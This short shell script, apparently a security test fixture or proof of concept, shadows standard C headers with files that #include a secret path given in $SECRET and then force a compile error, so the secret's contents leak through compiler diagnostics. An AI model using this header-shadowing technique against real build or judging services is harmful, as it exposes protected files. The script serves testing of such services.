# attack: a header of the folder that a compiler includes when it is only asked whether it is there
# from: bot
# bot: bot.c
mkdir bot
printf '#include "%s"\n#error BREACH\n' "$SECRET" | tee bot/stdio.h bot/stdlib.h > bot/iostream
echo 'int main(void) { return 0; }' > bot/bot.c
